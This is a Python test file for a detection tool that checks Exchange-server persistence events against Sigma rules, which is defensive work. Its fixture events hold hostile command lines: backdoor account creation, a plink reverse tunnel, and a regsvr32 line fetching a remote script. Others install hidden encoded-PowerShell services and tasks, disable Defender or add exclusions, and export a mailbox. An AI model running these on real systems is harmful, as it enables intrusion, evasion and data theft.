"""Post-exploitation persistence as responders meet it on an Exchange server when no worker process
was the parent (accounts, services and tasks, Defender tampering, tunnels, mailbox exports), in the events that
record it: each is a finding of the right rule and severity whose evidence row is the event, and
each survives the EVTX triage (its record's JSON and its chunk's UTF-16 text hold a literal of the
default scan: values, and for rules on binary values such as SIDs the name of a field only such
events have), so ``--index triage`` finds what ``--index full`` finds. Exchange's own accounts,
services, tasks and exclusions stay quiet."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson

from exhunt.artifacts import evtx_chunks
from tests.artifacts.event_shapes import evtx_json
from tests.detections.sigma.event_cases import (
    CMD,
    SECURITY,
    Case,
    each_is_its_finding,
    events_of,
    script_block,
    sysmon1,
)

T0 = datetime(2021, 3, 4, 1, 0, 0, tzinfo=UTC)
NET = "C:\\Windows\\System32\\net.exe"
NET1 = "C:\\Windows\\System32\\net1.exe"


def security(event_id: int, **data: str) -> dict[str, Any]:
    return {"provider": SECURITY[0], "channel": SECURITY[1], "id": event_id,
            "data": {"SubjectUserSid": "S-1-5-18", "SubjectUserName": "EXCH01$", "SubjectDomainName": "CORP",
                     "SubjectLogonId": "0x3e7", **data}}


def security4688(command: str, image: str) -> dict[str, Any]:
    return security(4688, NewProcessName=image, ParentProcessName=CMD, CommandLine=command)


def member_added(group_sid: str, group: str, member: str = "-") -> dict[str, Any]:
    return security(4732, MemberName=member, MemberSid="S-1-5-21-1-2-3-1001", TargetUserName=group,
                    TargetDomainName="Builtin", TargetSid=group_sid, PrivilegeList="-")


def service7045(name: str, image_path: str) -> dict[str, Any]:
    return {"provider": "Service Control Manager", "channel": "System", "id": 7045,
            "data": {"ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
                     "StartType": "auto start", "AccountName": "LocalSystem"}}


def service4697(name: str, file_name: str) -> dict[str, Any]:
    return security(4697, ServiceName=name, ServiceFileName=file_name, ServiceType="0x10", ServiceStartType="2",
                    ServiceAccount="LocalSystem")


def task_created(name: str, command: str, arguments: str = "", event_id: int = 4698) -> dict[str, Any]:
    action = f"<Command>{command}</Command>" + (f"\r\n      <Arguments>{arguments}</Arguments>" if arguments else "")
    content = ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2">\r\n  <Actions Context="LocalSystem">'
               f"\r\n    <Exec>\r\n      {action}\r\n    </Exec>\r\n  </Actions>\r\n</Task>")
    return security(event_id, TaskName=name, TaskContent=content)


def defender_changed(new_value: str, old_value: str = "") -> dict[str, Any]:
    return {"provider": "Microsoft-Windows-Windows Defender", "channel": DEFENDER_LOG, "id": 5007,
            "data": {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.23110.3",
                     "Old Value": old_value, "New Value": new_value}}


DEFENDER_LOG = "Microsoft-Windows-Windows Defender/Operational"
MP = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SCHTASKS = "C:\\Windows\\System32\\schtasks.exe"
SC = "C:\\Windows\\System32\\sc.exe"
EXCHANGE_BIN = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\"
ETS = "CN=Exchange Trusted Subsystem,OU=Microsoft Exchange Security Groups,DC=corp,DC=example"
# (event, the rule that must report it and its severity; None: nothing may)
CASES: list[Case] = [
    (sysmon1("net user DefaultAcc0unt P@ssw0rd! /add", NET), ("exhunt_net_user_add", "high")),
    (security4688("C:\\Windows\\system32\\net1 user DefaultAcc0unt P@ssw0rd! /add", NET1),
     ("exhunt_net_user_add", "high")),
    (sysmon1("net localgroup administrators DefaultAcc0unt /add", NET), ("exhunt_net_localgroup_add", "high")),
    (security4688('net1 localgroup "Remote Desktop Users" DefaultAcc0unt /add', NET1),
     ("exhunt_net_localgroup_add", "high")),
    (member_added("S-1-5-32-544", "Administratoren"), ("exhunt_local_admin_group_member_added", "high")),
    (member_added("S-1-5-32-555", "Remote Desktop Users"), ("exhunt_rdp_group_member_added", "medium")),
    (sysmon1("C:\\ProgramData\\plink.exe -pw x -R 0.0.0.0:4433:127.0.0.1:3389 a@203.0.113.7 -P 443",
             "C:\\ProgramData\\plink.exe"), ("exhunt_tunnel_tool", "high")),
    (security4688("C:\\ProgramData\\svchosts.exe -c C:\\ProgramData\\frpc.toml", "C:\\ProgramData\\svchosts.exe"),
     ("exhunt_tunnel_tool", "high")),
    (sysmon1("C:\\Users\\Public\\ngrok.exe tcp 3389", "C:\\Users\\Public\\ngrok.exe"), ("exhunt_tunnel_tool", "high")),
    (service7045("WinUpd", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand JABzAD0A"),
     ("exhunt_service_install_suspicious", "high")),
    (service7045("sct", "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll"),
     ("exhunt_service_install_suspicious", "high")),
    (service7045("PerfSvc", "C:\\PerfLogs\\svc.exe"), ("exhunt_service_install_suspicious", "high")),
    (service4697("BTOBTO", "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat"),
     ("exhunt_service_install_suspicious_4697", "high")),
    (service4697("upd", "C:\\ProgramData\\svchost.exe"), ("exhunt_service_install_suspicious_4697", "high")),
    (service4697("dll", "rundll32.exe C:\\Windows\\Temp\\a.dll,Start"),
     ("exhunt_service_install_suspicious_4697", "high")),
    (sysmon1('sc create WinUpd binPath= "cmd.exe /c C:\\ProgramData\\x.bat" start= auto', SC),
     ("exhunt_sc_create_suspicious", "high")),
    (security4688('sc.exe \\\\EXCH02 config Spooler binpath= "C:\\Windows\\Temp\\s.exe"', SC),
     ("exhunt_sc_create_suspicious", "high")),
    (service7045("MSExchangeHM", f'"{EXCHANGE_BIN}MSExchangeHMHost.exe"'), None),
    (service7045("WinDefend", f'"{DEFENDER}MsMpEng.exe"'), None),
    (service4697("MSExchangeTransport", f'"{EXCHANGE_BIN}MSExchangeTransport.exe"'), None),
    (service4697("WinDefend", f'"{DEFENDER}MsMpEng.exe"'), None),
    (sysmon1('sc create BackupAgent binPath= "C:\\Program Files\\Backup Agent\\agent.exe"', SC), None),
    (task_created("\\xFGbrWqD", "cmd.exe", "/C tasklist &gt; %windir%\\Temp\\xFGbrWqD.tmp 2&gt;&amp;1"),
     ("exhunt_task_created_suspicious", "high")),
    (task_created("\\Upd", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -enc JABzAD0A"),
     ("exhunt_task_created_suspicious", "high")),
    (task_created("\\upd", '"C:\\Users\\Public\\svc.exe"', event_id=4702), ("exhunt_task_created_suspicious", "high")),
    (sysmon1('schtasks /create /tn "Update" /tr "cmd /c C:\\Windows\\Temp\\u.bat" /sc onstart /ru SYSTEM', SCHTASKS),
     ("exhunt_schtasks_create_suspicious", "high")),
    (security4688('schtasks.exe /Create /F /SC MINUTE /TN x /TR "powershell -nop -enc JABzAD0A"', SCHTASKS),
     ("exhunt_schtasks_create_suspicious", "high")),
    (task_created("\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan", f"{DEFENDER}MpCmdRun.exe",
                  "Scan -ScheduleJob -ScanTrigger 55"), None),
    (task_created("\\Exchange Log Cleanup", "powershell.exe", "-ExecutionPolicy Bypass -File C:\\Scripts\\Cleanup.ps1"),
     None),
    (sysmon1("schtasks /query /fo LIST /v", SCHTASKS), None),
    (sysmon1('powershell -c Add-MpPreference -ExclusionPath "C:\\inetpub\\wwwroot\\aspnet_client"', POWERSHELL),
     ("exhunt_defender_tampering_cmdline", "high")),
    (security4688("powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", POWERSHELL),
     ("exhunt_defender_tampering_cmdline", "high")),
    (script_block("Add-MpPreference -ExclusionPath $env:ProgramData -ExclusionExtension .dll"),
     ("exhunt_defender_tampering_script", "high")),
    (defender_changed(MP + "Exclusions\\Paths\\C:\\ProgramData = 0x0"), ("exhunt_defender_exclusion_added", "high")),
    (defender_changed(MP + "Real-Time Protection\\DisableRealtimeMonitoring = 0x1"),
     ("exhunt_defender_exclusion_added", "high")),
    (sysmon1(f'powershell Add-MpPreference -ExclusionPath "{EXCHANGE_BIN}..\\Mailbox"', POWERSHELL), None),
    (defender_changed(f"{MP}Exclusions\\Processes\\{POWERSHELL} = 0x0"),
     None),  # Microsoft's documented Exchange process exclusions (Set-ExchAVExclusions.ps1 adds them)
    (defender_changed(MP + "Exclusions\\Processes\\%SystemRoot%\\System32\\Dsamain.exe = 0x0"), None),
    (defender_changed(MP + "Exclusions\\Processes\\C:\\Windows\\Temp\\PowerShell.exe = 0x0"),
     ("exhunt_defender_exclusion_added", "high")),
    (defender_changed(MP + "Exclusions\\Paths\\C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox = 0x0"),
     None),
    (script_block("New-MailboxExportRequest -Mailbox cfo -FilePath \\\\FS01\\PST\\cfo.pst"),
     ("exhunt_mailbox_export_script", "medium")),  # to a web folder it is also the critical rule: see pack.yml
    (script_block("Get-MailboxExportRequest | Get-MailboxExportRequestStatistics"), None),
    (sysmon1("powershell -c Get-MailboxExportRequest -Status Completed", POWERSHELL), None),
    (sysmon1("net localgroup administrators", NET), None),
    (sysmon1("ssh admin@backup01", "C:\\Windows\\System32\\OpenSSH\\ssh.exe"), None),
    (member_added("S-1-5-32-544", "Administrators", ETS), None),
]


def _events() -> list[dict[str, Any]]:
    return events_of(CASES, T0)


def test_every_persistence_event_is_kept_by_the_evtx_triage(default_literals: tuple[str, ...]) -> None:
    """The record's JSON, and its chunk's UTF-16 text: the values and the template's field names
    (``<Data Name="...">``), without the channel and provider names (they hold every event)."""
    for event in _events():
        if CASES[event["record"] - 1][1] is None:
            continue
        record = orjson.dumps({"Event": evtx_json(event)["Event"]}).decode()
        chunk = "\x00".join(f"{k}\x00{v}" for k, v in event["data"].items()).encode("utf-16-le")
        assert evtx_chunks.record_matches(record), event["data"]
        assert evtx_chunks.chunk_matches(chunk), event["data"]


def test_each_step_is_one_finding_with_its_event_as_evidence(tmp_path: Path) -> None:
    document = each_is_its_finding(tmp_path, CASES, _events())
    for _, want in CASES:
        if want is not None:
            assert any(f.remediation for f in document.findings if f.check == "sigma:" + want[0]), want


def test_defender_5001_is_kept_by_its_channel_name(default_literals: tuple[str, ...]) -> None:
    """Defender's 5001 holds no text of its own (Product Name and Version): the triage keeps the
    Defender Operational log's chunks by the channel name, which every record of it holds."""
    assert DEFENDER_LOG.lower() in default_literals
    assert evtx_chunks.chunk_matches(("\x00" + DEFENDER_LOG + "\x00").encode("utf-16-le"))


def test_steps_an_admin_also_takes_make_a_host_suspicious_not_compromised(tmp_path: Path) -> None:
    """An account added to Administrators, a task running cmd /c: an intruder's steps, and an admin's
    on a rebuilt server (the review's benign cases). The rules are experimental: medium confidence,
    so such a finding alone makes the host suspicious, never compromised."""
    cases: list[Case] = [
        (member_added("S-1-5-32-544", "Administrators", "CN=Domain Admins,CN=Users,DC=corp,DC=example"),
         ("exhunt_local_admin_group_member_added", "high")),
        (task_created("CleanLogs", "cmd.exe", "/c C:\\Scripts\\CleanLogs.bat"),
         ("exhunt_task_created_suspicious", "high")),
    ]
    document = each_is_its_finding(tmp_path, cases, events_of(cases, T0))
    assert {f.confidence for f in document.findings if f.check.startswith("sigma:")} == {"medium"}
    assert document.hosts[0].verdict == "suspicious"
